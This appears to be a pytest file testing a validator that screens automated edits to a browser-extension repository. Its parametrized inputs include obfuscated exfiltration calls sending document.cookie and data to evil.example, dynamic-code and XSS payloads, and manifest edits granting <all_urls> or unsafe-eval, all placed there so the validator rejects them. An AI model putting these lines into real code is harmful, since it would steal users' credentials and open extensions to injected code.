"""The content policy of validate_edits: file types, network sinks and origins, dynamic code,
sensitive data flows, manifest/package guards that parse what Chrome and npm accept, and caps.

Every rule has attacks that try to slip past it (obfuscation, aliasing, comments, templates) and
an ordinary bug fix in the same file that must still pass.
"""

from __future__ import annotations

import pytest

from homeostat_core.config import ConfigError, parse_config
from homeostat_core.fixing.validation import (
    CONTENT_POLICY_CODES,
    MAX_EDIT_BYTES,
    MAX_LINE_CHARS,
    REASON_CODES,
    Rejection,
    ValidatedChange,
    validate_edits,
)
from homeostat_core.models import FileEdit
from tests.unit.fixing.fakes import repo_config

POPUP = """\
// popup: loads the saved notes
import { render } from './render.js';

const API = 'https://api.notebridge.example/v1';

export async function loadNotes(list) {
  const res = await fetch(`${API}/notes`);
  const data = await res.json();
  let total = 0;
  for (const item of data.items) {
    total += item.count;
  }
  console.log('loaded', total);
  render(list, data.items);
  return total;
}
"""
HOOK = "  console.log('loaded', total);"
STYLE = ".note {\n  color: #333;\n  background: url(/img/bg.png);\n}\n"
MANIFEST_WITH_COMMENTS = """\
// Chrome accepts comments and trailing commas in manifest.json
{
  "manifest_version": 3,
  "name": "Notes", /* shown in the toolbar */
  "version": "1.0.0",
  "permissions": ["storage"],
  "content_scripts": [{"matches": ["https://notes.example/*"], "js": ["content.js"]}],
  "description": "old",
}
"""
FILES = {
    "src/popup.js": POPUP,
    "src/popup.ts": POPUP.replace("(list)", "(list: HTMLElement)"),
    "src/style.css": STYLE,
    "src/index.html": "<html><body><script src='popup.js'></script></body></html>\n",
    "src/build.sh": "#!/bin/sh\nnpm run build\n",
    "src/.env": "API=x\n",
    "src/locales/en.json": '{"hello": "Hello"}\n',
    "manifest.json": MANIFEST_WITH_COMMENTS,
    "package.json": '{"name": "notes", "version": "1.0.0", "scripts": {"test": "jest"}}\n',
}


def validate(*edits: FileEdit, files: dict[str, str] | None = None, **config):
    return validate_edits(list(edits), repo_config(**config), (files or FILES).get)


def code_of(result) -> str:
    assert isinstance(result, Rejection), result
    assert result.reason_code in REASON_CODES
    return result.reason_code


def hook(replace: str, path: str = "src/popup.js") -> FileEdit:
    return FileEdit(path, HOOK, HOOK + "\n  " + replace)


def test_the_new_codes_are_listed():
    assert set(CONTENT_POLICY_CODES) <= set(REASON_CODES)
    assert len(set(REASON_CODES)) == len(REASON_CODES)


# --- an ordinary bug fix passes every rule ---------------------------------------------------


@pytest.mark.parametrize(
    "edit",
    [
        FileEdit(
            "src/popup.js", "for (const item of data.items) {", "for (const item of data?.items ?? []) {"
        ),
        FileEdit(
            "src/popup.ts", "for (const item of data.items) {", "for (const item of data?.items ?? []) {"
        ),
        # the same endpoint again, a relative URL, a timer with a function, a harmless storage key
        hook("const more = await fetch(`${API}/notes?page=2`);"),
        hook("await fetch('/api/ping');"),
        hook("setTimeout(() => render(list, []), 10);"),
        hook("const theme = localStorage.getItem('theme'); render(list, [theme]);"),
        hook("list.querySelector('img').src = chrome.runtime.getURL('icons/empty.png');"),
        hook("this.data = await res.json();"),
        # words in comments and property names are not calls
        hook("// fetch('https://evil.example') and eval() are mentioned in this comment only"),
        hook("const labels = { fetch: 'Fetch', cookie: 'Cookie policy' }; render(list, [labels]);"),
        FileEdit("src/style.css", "color: #333;", "color: #222;\n  overflow: hidden;"),
        FileEdit("manifest.json", '"description": "old",', '"description": "new",'),
    ],
)
def test_an_ordinary_fix_passes(edit):
    assert isinstance(validate(edit), ValidatedChange), validate(edit)


# --- file types ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "search"),
    [
        ("src/index.html", "popup.js"),
        ("src/build.sh", "npm run build"),
        ("src/.env", "API=x"),
        ("src/locales/en.json", "Hello"),
    ],
)
def test_only_allowed_file_types_are_edited(path, search):
    assert code_of(validate(FileEdit(path, search, search + "x"))) == "file_type"


def test_file_types_are_configurable_but_never_include_html_shell_or_env():
    only_js = validate(FileEdit("src/style.css", "#333", "#222"), fix_file_types=(".js",))
    assert code_of(only_js) == "file_type"
    allow_json = validate(FileEdit("src/locales/en.json", "Hello", "Hi"), fix_file_types=("*.json",))
    assert isinstance(allow_json, ValidatedChange)
    # even when the config (built in code, skipping the YAML check) lists them
    for path, search in (("src/index.html", "popup.js"), ("src/build.sh", "npm"), ("src/.env", "API")):
        result = validate(FileEdit(path, search, search + "x"), fix_file_types=(".html", ".sh", ".env", "*"))
        assert code_of(result) == "file_type"


def test_repos_yml_rejects_never_edited_file_types_with_file_key_reason():
    repo = {
        "slug": "acme/ext",
        "branch": "main",
        "max_prs_per_run": 1,
        "labels": ["homeostat"],
        "path_filters": {"include": ["src"]},
    }
    ok = parse_config({"version": 1, "repositories": [{**repo, "fix_file_types": [".js", "*.json"]}]})
    assert ok.repositories[0].fix_file_types == (".js", "*.json")
    assert parse_config({"version": 1, "repositories": [repo]}).repositories[0].allows_file_type("a/b.tsx")
    with pytest.raises(ConfigError) as err:
        parse_config(
            {"version": 1, "repositories": [{**repo, "fix_file_types": [".js", "*.html", ".sh", 3]}]}, "r.yml"
        )
    problems = "\n".join(err.value.problems)
    assert "r.yml: repositories[0].fix_file_types[1]: " in problems
    assert "fix_file_types[2]" in problems and "fix_file_types[3]" in problems


# --- network sinks and origins ---------------------------------------------------------------


@pytest.mark.parametrize(
    "added",
    [
        "fetch('https://evil.example/c?' + document.cookie);",
        "globalThis.fetch('https://evil.example/x');",
        "self[\"fetch\"]('//evil.example/x');",
        "window['fe' + 'tch']('https://evil.example/x');",
        "fetch(`https://evil.example/${total}`);",
        "fetch('ht' + 'tps://evil.example/' + total);",
        "fetch('\\x68ttps://evil.example/');",
        "fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU='));",
        "navigator.sendBeacon(list.dataset.url, String(total));",
        "const send = navigator.sendBeacon.bind(navigator); send(list.dataset.url, 'x');",
        "new WebSocket('wss://evil.example/s');",
        "new EventSource(list.dataset.url);",
        "await import('https://evil.example/m.js');",
        "importScripts('https://cdn.evil.example/w.js');",
        "const x = new XMLHttpRequest(); x.open('POST', 'https://evil.example/'); x.send(total);",
        "new Image().src = 'https://evil.example/p?t=' + total;",
        "document.querySelector('img').setAttribute('src', 'https://evil.example/p');",
        "location.href = 'https://evil.example/?' + total;",
        "const s = document.createElement('script'); s.src = list.dataset.url; document.head.append(s);",
        "const go = fetch; go(list.dataset.url);",
        "const w = window; w.open('https://evil.example');",
        "list.innerHTML = '<img src=x>' + '<script src=\"https://evil.example/x.js\"></' + 'script>';",
        "const origin = 'https://evil.example';",
        "const where = `${total}https://evil.example/`; render(list, [where]);",
        "const where = 'ht' + 'tps://evil.example'; render(list, [where]);",
        "const { sendBeacon: beacon } = navigator; beacon(list.dataset.url);",
        "Reflect.apply(navigator.sendBeacon, navigator, [list.dataset.url]);",
        "location.assign(list.dataset.next + '?t=' + total);",
        "window.location = list.dataset.next;",
        "new (window['Web' + 'Socket'])(list.dataset.url);",
    ],
)
def test_new_network_sinks_and_origins_are_rejected(added):
    assert code_of(validate(hook(added))) == "network_sink"


def test_css_new_origin_is_rejected():
    edit = FileEdit("src/style.css", "url(/img/bg.png)", "url(https://evil.example/p.png)")
    assert code_of(validate(edit)) == "network_sink"
    imported = FileEdit("src/style.css", ".note {", "@import '//evil.example/x.css';\n.note {")
    assert code_of(validate(imported)) == "network_sink"


def test_network_sinks_in_typescript_are_rejected_too():
    edit = hook("(globalThis as any).fetch('https://evil.example/' + total);", "src/popup.ts")
    assert code_of(validate(edit)) == "network_sink"


# --- dynamic code ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "added",
    [
        "eval('render(list, [])');",
        "window['ev' + 'al']('render(list, [])');",
        "window['\\x65val']('1');",
        "(0, eval)('1');",
        "window.eval.call(null, '1');",
        "const e = eval; e('1');",
        "new Function('return 1')();",
        "Function('return 1')();",
        "[].constructor.constructor('return 1')();",
        "setTimeout('render(list, [])', 10);",
        "setInterval(`tick(${total})`, 5);",
        "setTimeout('re' + 'nder()', 1);",
        "document.write('<scr' + 'ipt>alert(1)</scr' + 'ipt>');",
        "document.write(list.dataset.html);",
        "const k = 'ev' + 'al'; window[k]('1');",
        "list.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>');",
        "list.innerHTML = '<a href=\"javascript:alert(1)\">x</a>';",
        "setTimeout.call(window, 'render()', 1);",
        "setTimeout.apply(window, ['render()', 1]);",
        "const { eval: run } = window; run('1');",
        "const run = window.eval; run('1');",
        "new Function`return 1`();",
    ],
)
def test_dynamic_code_is_rejected(added):
    assert code_of(validate(hook(added))) == "dynamic_code"


def test_css_expressions_are_rejected():
    edit = FileEdit("src/style.css", "color: #333;", "color: #333;\n  width: expression(alert(1));")
    assert code_of(validate(edit)) == "dynamic_code"


# --- sensitive reads flowing into a call -----------------------------------------------------


@pytest.mark.parametrize(
    "added",
    [
        "console.log(document.cookie);",
        "console.log(document['cookie']);",
        "console.log(document['coo' + 'kie']);",
        "console.log(`${document.cookie}`);",
        "const c = document.cookie; console.log(c);",
        "console.log(process.env);",
        "console.log(process['env'].SECRET);",
        "const env = process.env; render(list, [env]);",
        "chrome.cookies.getAll({}, (all) => render(list, all));",
        "browser.cookies.get({ name: 'sid', url: '/' });",
        "console.log(localStorage.getItem('authToken'));",
        "await fetch('/api/log', { method: 'POST', body: sessionStorage.sessionId });",
        "chrome.storage.local.get(['password'], (r) => render(list, [r]));",
        "window.postMessage(document.cookie, '*');",
        "const t = await chrome.storage.sync.get('apiKey'); console.info(t);",
        "const { cookie } = document; console.log(cookie);",
        "const { env: vars } = process; render(list, [vars]);",
    ],
)
def test_sensitive_reads_flowing_into_a_call_are_rejected(added):
    assert code_of(validate(hook(added))) == "sensitive_data_flow"


def test_a_sensitive_read_already_in_the_file_may_stay():
    files = {**FILES, "src/popup.js": POPUP.replace(HOOK, "  console.log('loaded', total, document.cookie);")}
    edit = FileEdit("src/popup.js", "let total = 0;", "let total = 0; // counts")
    assert isinstance(validate(edit, files=files), ValidatedChange)


# --- manifest.json and package.json ----------------------------------------------------------


@pytest.mark.parametrize(
    ("search", "replace"),
    [
        ('"permissions": ["storage"],', '"permissions": ["storage", "<all_urls>"],'),
        ('"permissions": ["storage"],', '"permissions": ["storage"], "host_permissions": ["<all_urls>"],'),
        ('"permissions": ["storage"],', '"permissions": ["storage"], "optional_permissions": ["tabs"],'),
        ('"https://notes.example/*"', '"https://notes.example/*", "<all_urls>"'),
        ('"version": "1.0.0",', '"version": "1.0.0", "externally_connectable": {"matches": ["*://*/*"]},'),
        (
            '"version": "1.0.0",',
            '"version": "1.0.0", "content_security_policy": {"extension_pages": "script-src * \'unsafe-eval\'"},',
        ),
        ('"version": "1.0.0",', '"version": "1.0.0", "web_accessible_resources": [{"resources": ["*"]}],'),
        # hidden behind a comment Chrome ignores
        ('"description": "old",', '"description": "old", /* ok */ "permissions": ["storage", "cookies"]'),
    ],
)
def test_manifest_guard_parses_comments_and_trailing_commas(search, replace):
    result = validate(FileEdit("manifest.json", search, replace))
    assert code_of(result) in ("manifest_permissions", "syntax_error")
    if "/* ok */" not in replace:
        assert code_of(result) == "manifest_permissions"


def test_a_duplicate_key_is_not_a_way_around_the_manifest_guard():
    result = validate(
        FileEdit("manifest.json", '"description": "old",', '"description": "old", "permissions": ["tabs"],')
    )
    assert code_of(result) == "syntax_error"
    assert "duplicate" in result.detail


@pytest.mark.parametrize(
    ("path", "old", "search", "replace"),
    [
        ("manifest.json", '{"permissions": ["storage"] "name": "x"}', '"name": "x"', '"name": "y"'),
        ("manifest.json", '{"permissions": /* unterminated', "unterminated", "done */ []}"),
        (
            "package.json",
            '// npm does not accept comments\n{"scripts": {}}',
            '"scripts": {}',
            '"scripts": {"x": "y"}',
        ),
        ("package.json", "[1, 2]", "[1, 2]", "{}"),
    ],
)
def test_an_unparseable_guarded_file_is_never_edited(path, old, search, replace):
    result = validate(FileEdit(path, search, replace), files={path: old})
    assert code_of(result) == "guarded_file_unparseable"


def test_package_json_dependencies_from_git_or_urls_are_rejected():
    for spec in ('"git+https://evil.example/x.git"', '"https://evil.example/x.tgz"', '"github:evil/x"'):
        edit = FileEdit(
            "package.json", '"version": "1.0.0",', f'"version": "1.0.0", "dependencies": {{"x": {spec}}},'
        )
        assert code_of(validate(edit)) == "package_scripts"


# --- caps ------------------------------------------------------------------------------------


def test_edit_size_and_line_length_are_capped():
    big = "\n".join(f"  total += {i};" for i in range(MAX_EDIT_BYTES // 10))
    assert (
        code_of(validate(FileEdit("src/popup.js", "let total = 0;", "let total = 0;\n" + big)))
        == "edit_too_large"
    )
    one_line = "  const pad = '" + "x" * (MAX_LINE_CHARS + 1) + "';"
    assert code_of(validate(hook(one_line))) == "line_too_long"
    huge = "  const pad = '" + "x" * 500_000 + "';"
    assert code_of(validate(hook(huge))) == "edit_too_large"
    # a long line already in the file may be carried through the edit unchanged
    long_line = "  const banner = '" + "=" * (MAX_LINE_CHARS + 10) + "';"
    files = {**FILES, "src/popup.js": POPUP.replace(HOOK, HOOK + "\n" + long_line)}
    carried = FileEdit(
        "src/popup.js", HOOK + "\n" + long_line, "  console.info('loaded', total);\n" + long_line
    )
    assert isinstance(validate(carried, files=files), ValidatedChange)
